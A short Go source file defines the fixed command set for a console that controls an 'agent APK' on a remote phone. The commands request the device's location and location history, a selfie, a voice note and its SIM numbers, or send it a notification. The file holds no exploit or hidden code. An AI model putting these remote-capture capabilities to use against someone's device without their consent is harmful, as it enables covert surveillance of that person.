package models

// Command is an operation requested of the remote device.
// The set is closed: the agent APK only understands these verbs.
type Command string

const (
	RequestLocation         Command = "REQUEST_LOCATION"
	RequestLocationTimeline Command = "REQUEST_LOCATION_TIMELINE"
	RequestSelfie           Command = "REQUEST_SELFIE"
	RequestVoiceNote        Command = "REQUEST_VOICE_NOTE"
	RequestSimNumbers       Command = "REQUEST_SIM_NUMBERS"
	SendNotification        Command = "SEND_NOTIFICATION"
)

// Commands lists every command the console can issue, in menu order.
var Commands = []Command{
	RequestLocation,
	RequestLocationTimeline,
	RequestSelfie,
	RequestVoiceNote,
	RequestSimNumbers,
	SendNotification,
}

// Valid reports whether c is a member of the closed command set.
func (c Command) Valid() bool {
	for _, known := range Commands {
		if c == known {
			return true
		}
	}
	return false
}
